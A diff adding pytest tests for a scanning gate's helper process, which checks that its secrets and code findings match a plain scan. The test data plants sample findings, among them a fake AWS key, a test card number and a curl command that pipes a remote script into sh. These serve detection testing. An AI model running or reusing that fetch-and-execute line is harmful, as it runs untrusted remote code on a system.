@@ -1,0 +1,151 @@
+"""The gate's scan helper process: same findings with or without it, and never a weaker scan."""
+
+from __future__ import annotations
+
+import logging
+import os
+import signal
+import time
+from collections.abc import Iterator
+
+import pytest
+
+from kavach.scanning import gate as gate_module
+from kavach.scanning.engine import PatternBank
+from kavach.scanning.gate import ExternalizationPolicy, Gate, bank_named
+from kavach.scanning.helper import SPLIT_MIN, HelperError, ScanHelper, _checked
+
+NAMES = ("data", "secrets", "code")
+# Findings of every scanner, one every ~3 KiB, so that some sit on the window boundaries
+# around wherever the cut between the caller's part and the helper's part falls.
+SECRETS = (
+    b"aws_access_key_id = AKIAIOSFODNN7EXAMPLF\n",
+    b"card 4111 1111 1111 1111 exp 12/29 cvv 123\n",
+    b"curl -s http://203.0.113.7/x.sh | sh\n",
+    b"password = 'Tr0ub4dor&3xq'\n",
+    b"mail alice@example.org or call +1 415 555 0100\n",
+)
+
+
+def _artifact(size: int) -> bytes:
+    filler = b"lorem ipsum dolor sit amet, total amount of memory 42 kB\n" * 50
+    parts: list[bytes] = []
+    total = 0
+    i = 0
+    while total < size:
+        part = filler[: 1500 + (i * 397) % 1800] + SECRETS[i % len(SECRETS)]
+        parts.append(part)
+        total += len(part)
+        i += 1
+    return b"".join(parts)
+
+
+def _until_ready(helper: ScanHelper, bank: PatternBank, data: bytes) -> None:
+    deadline = time.monotonic() + 60
+    while not helper.ready(NAMES):
+        assert not helper.disabled, "the helper failed to start"
+        assert time.monotonic() < deadline, "the helper did not get ready within 60 s"
+        helper.scan(bank, NAMES, data)  # starts it, then asks whether it is ready
+        time.sleep(0.05)
+
+
+@pytest.fixture
+def helper() -> Iterator[ScanHelper]:
+    made = ScanHelper(bank_named)
+    yield made
+    made.close()
+
+
+def test_the_helper_finds_exactly_what_the_caller_finds(helper: ScanHelper) -> None:
+    bank = bank_named(NAMES)
+    data = _artifact(2 * SPLIT_MIN + 12345)
+    alone = bank.validated(data, 0, len(data))
+    _until_ready(helper, bank, data)
+    for _ in range(4):  # the cut moves between scans: compare at several cuts
+        assert helper.scan(bank, NAMES, data) == alone
+    assert helper.splits >= 4
+    assert len(alone) > 100
+
+
+def test_gate_findings_are_the_same_with_the_helper(helper: ScanHelper, monkeypatch: pytest.MonkeyPatch) -> None:
+    data = _artifact(SPLIT_MIN * 3)
+    gate = Gate(ExternalizationPolicy())
+    monkeypatch.setattr(gate_module, "_HELPER", ScanHelper(bank_named))
+    gate_module._HELPER._broken = True  # this one never helps: the reference
+    reference = gate.apply(data, "stdout")
+    monkeypatch.setattr(gate_module, "_HELPER", helper)
+    _until_ready(helper, bank_named(NAMES), data)
+    before = helper.splits
+    helped = gate.apply(data, "stdout")
+    assert helper.splits == before + 1
+    assert helped.findings == reference.findings
+    assert helped.released == reference.released
+    assert helped.verdict == reference.verdict
+
+
+def test_a_killed_helper_is_replaced_by_the_caller_scanning_itself(
+    helper: ScanHelper, caplog: pytest.LogCaptureFixture
+) -> None:
+    bank = bank_named(NAMES)
+    data = _artifact(SPLIT_MIN * 2)
+    alone = bank.validated(data, 0, len(data))
+    _until_ready(helper, bank, data)
+    assert helper._proc is not None
+    os.kill(helper._proc.pid, signal.SIGKILL)
+    helper._proc.wait()
+    with caplog.at_level(logging.WARNING, logger="kavach.scanning.helper"):
+        assert helper.scan(bank, NAMES, data) == alone
+    assert helper.disabled
+    assert "scan helper disabled" in caplog.text
+    assert helper.scan(bank, NAMES, data) == alone  # and without it from now on
+
+
+def test_a_helper_with_other_rules_is_never_used(caplog: pytest.LogCaptureFixture) -> None:
+    bank = bank_named(NAMES)
+    other = bank_named(("secrets",))
+    # The caller believes the helper should have built `other`: the digests differ.
+    helper = ScanHelper(lambda names: other)
+    data = _artifact(SPLIT_MIN * 2)
+    try:
+        deadline = time.monotonic() + 60
+        with caplog.at_level(logging.WARNING, logger="kavach.scanning.helper"):
+            while not helper.disabled and time.monotonic() < deadline:
+                assert helper.scan(bank, NAMES, data) == bank.validated(data, 0, len(data))
+                time.sleep(0.05)
+        assert helper.disabled
+        assert "different rules" in caplog.text
+        assert helper.splits == 0
+    finally:
+        helper.close()
+
+
+def test_small_artifacts_and_the_off_switch_start_no_process(monkeypatch: pytest.MonkeyPatch) -> None:
+    bank = bank_named(NAMES)
+    small = ScanHelper(bank_named)
+    small.scan(bank, NAMES, _artifact(SPLIT_MIN - 4096)[: SPLIT_MIN - 1])
+    assert small._proc is None
+    monkeypatch.setenv("KAVACH_SCAN_HELPER", "0")
+    off = ScanHelper(bank_named)
+    data = _artifact(SPLIT_MIN * 2)
+    assert off.scan(bank, NAMES, data) == bank.validated(data, 0, len(data))
+    assert off.disabled and off._proc is None
+
+
+@pytest.mark.parametrize(
+    "item",
+    [
+        [5, 10, 20],  # three fields
+        [999, 10, 20, 0.9],  # no such rule
+        [-1, 10, 20, 0.9],
+        [1, 20, 20, 0.9],  # empty span
+        [1, 20, 10, 0.9],  # reversed
+        [1, 10, 101, 0.9],  # past the artifact
+        [1, "10", 20, 0.9],
+        [1, 10, 20, "high"],
+        "1,10,20,0.9",
+    ],
+)
+def test_malformed_answers_are_refused(item: object) -> None:
+    with pytest.raises(HelperError):
+        _checked([[0, 1, 2, 0.5], item], rules=10, size=100)
+    assert _checked([[0, 1, 2, 0.5], [9, 0, 100, 1]], rules=10, size=100) == [(0, 1, 2, 0.5), (9, 0, 100, 1)]
